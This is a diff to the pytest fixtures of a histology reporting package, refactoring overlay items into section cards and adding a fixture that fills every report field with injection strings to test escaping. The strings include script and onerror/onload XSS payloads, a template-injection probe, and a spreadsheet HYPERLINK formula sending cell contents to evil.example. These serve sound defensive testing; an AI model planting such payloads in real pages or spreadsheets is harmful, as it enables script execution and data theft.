@@ -3,13 +3,14 @@
 from __future__ import annotations
 
 from collections.abc import Callable
+from dataclasses import replace
 from typing import Any
 
 import numpy as np
 import pandas as pd
 import pytest
 
-from sevhisto.report import OverlayItem, ReportInputs, batch_contrast, overlay_image
+from sevhisto.report import ReportInputs, SectionCard, batch_contrast, overlay_image, render_report, tissue_histograms
 from sevhisto.schema import ANIMALS, COMPARISONS, PROFILES, RELATIONS, STATUS
 from sevhisto.types import N_DISTANCE, N_INTENSITY, SectionRecord, encode_thumbnail
 
@@ -18,6 +19,17 @@ MARKERS = ("DAPI", "GFAP", "CD68", "fibronectin")
 ROLES = dict(zip(MARKERS, ("nuclei", "landmark", "macrophage", "ecm"), strict=True))
 VOLUME = "ECM_core_fibronectin_positive_volume_mm3"
 AUC = "BBB_auc_score_days"
+HOSTILE = "<script>alert(1)</script>"
+NASTY = (
+    '=HYPERLINK("http://evil.example/?"&A1)',
+    '"><img src=x onerror=alert(1)>',
+    "{{ 7*7 }}",
+    r"$\frac{",
+    "_hidden",
+    "鼠 №5",
+    "a&b;<b>",
+    "'--><svg/onload=x>",
+)
 
 
 def build_record(seed: int = 0, brightfield: bool = False, core: bool = True) -> SectionRecord:
@@ -67,16 +79,25 @@ def build_inputs(blinded: bool = False, compared: bool = True, pictures: bool = 
     volume[8] = np.nan
     wide = pd.DataFrame({"animal": animals, VOLUME: volume, AUC: auc, "A_core_CD68_fraction_pct": rng.normal(34, 6, 20)})
     records = [build_record(s, brightfield=s == 2) for s in range(3)] if pictures else []
-    contrast = batch_contrast(records)
-    overlays = [
-        OverlayItem(
-            f"{animals[i]} · s{i + 3:02d} · panel A",
-            f"{i * 500 - 500:+d} µm from the epicentre",
-            overlay_image(r, contrast, [0, 250, 500, 1000], ROLES),
-            f,
+    contrast = batch_contrast(map(tissue_histograms, records))
+    cards = [
+        SectionCard(
+            animals[i],
+            f"s{i + 3:02d}",
+            "A",
+            "sample",
+            "1",
+            float(i * 500),
+            "flagged",
+            "review" if i == 1 else "keep",
+            reasons="blur" if i == 1 else "",
+            flags=f,
+            core_um2=1.2e5 * i,
+            picture=overlay_image(r, contrast, [0, 250, 500, 1000], ROLES),
         )
         for i, (r, f) in enumerate(zip(records, ("contour_unreviewed", "contour_drawn;saturated", "stain_vectors_assumed"), strict=False))
     ]
+    cards += [SectionCard(animals[4], "s03", "B", "sample", "1", 2000.0, "failed", reason="no pixel size in the file")] if pictures else []
     return ReportInputs(
         study_name="sEV delivery in rat contusion (made up)",
         blinded=blinded,
@@ -95,7 +116,8 @@ def build_inputs(blinded: bool = False, compared: bool = True, pictures: bool = 
             "inputs": {"slides.csv": "9f" * 32, "n_files": 288},
             "packages": {"numpy": "2.3.4"},
         },
-        overlays=overlays,
+        cards=cards,
+        zones_um=(0, 250, 500, 1000),
         banner_flags=["not_unblinded"] if blinded else ["changed_after_unblinding"],
         notes=[
             "Injection and infusion differ in surgery as well: no injection-route vehicle was kept.",
@@ -220,6 +242,42 @@ def _profiles(animals: list[str], effect: np.ndarray) -> pd.DataFrame:
 def _thresholds() -> pd.DataFrame:
     rows = [("A", b, m, 41.375 + 3 * i, s, n) for b, s, n in (("1", "no_primary", 3), ("2", "batch", 0)) for i, m in enumerate(MARKERS)]
     return pd.DataFrame(rows, columns=["panel", "batch", "marker", "threshold", "source", "n_controls"])
+
+
+def hostile() -> ReportInputs:
+    plain = ["R01", "R02", "vehicle", "daily x3", "R03", "R04", "6-day infusion", "R06"]
+    inputs = build_inputs(names=dict(zip(plain, NASTY, strict=True)) | {"R05": HOSTILE})
+    status = inputs.status.copy()
+    status.loc[5, ["reason", "file"]] = [HOSTILE, NASTY[0]]
+    cards = [
+        c._replace(animal=HOSTILE, section=NASTY[1], batch=NASTY[4], reasons=NASTY[0], flags=f"{HOSTILE};saturated") for c in inputs.cards
+    ]
+    return replace(
+        inputs,
+        study_name=HOSTILE,
+        status=status,
+        cards=cards,
+        notes=[HOSTILE, *NASTY],
+        settings=f"</pre>{HOSTILE}",
+        run={HOSTILE: [NASTY[0]], "x": {"y": NASTY[1]}},
+        motor_label=HOSTILE,
+    )
+
+
+@pytest.fixture(scope="session")
+def nasty() -> tuple[str, ...]:
+    return (HOSTILE, *NASTY)
+
+
+@pytest.fixture(scope="session")
+def clean() -> str:
+    return render_report(build_inputs())
+
+
+@pytest.fixture(scope="session")
+def attacked() -> str:
+    """The same report where every name is an attempt to run code."""
+    return render_report(hostile())
 
 
 @pytest.fixture(scope="session")
